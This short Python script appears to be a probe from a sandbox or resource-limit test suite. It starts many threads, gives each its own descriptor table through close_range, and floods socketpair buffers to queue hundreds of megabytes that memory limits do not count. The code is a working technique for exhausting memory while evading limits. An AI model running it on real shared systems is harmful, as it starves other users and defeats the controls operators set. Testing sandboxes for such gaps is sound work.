# Fill the buffers of sockets, which no limit of memory counts, with a table of descriptors for each thread.
# earns: ok
import ctypes
import socket
import threading

libc = ctypes.CDLL(None, use_errno=True)
threading.stack_size(128 << 10)
total, done = 0, threading.Event()


def fill():
    global total
    libc.syscall(436, ctypes.c_uint(3000000000), ctypes.c_uint(3000000000), 2)  # close_range, a table of its own
    pairs = []
    try:
        while total < 600 << 20:
            pairs.append(socket.socketpair())
            for end in pairs[-1]:
                end.setblocking(False)
                try:
                    while True:
                        total += end.send(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        pass
    done.wait()


threads = [threading.Thread(target=fill, daemon=True) for _ in range(20)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(0.05)
if total > 256 << 20:
    print("REACHED", total >> 20, "MiB")
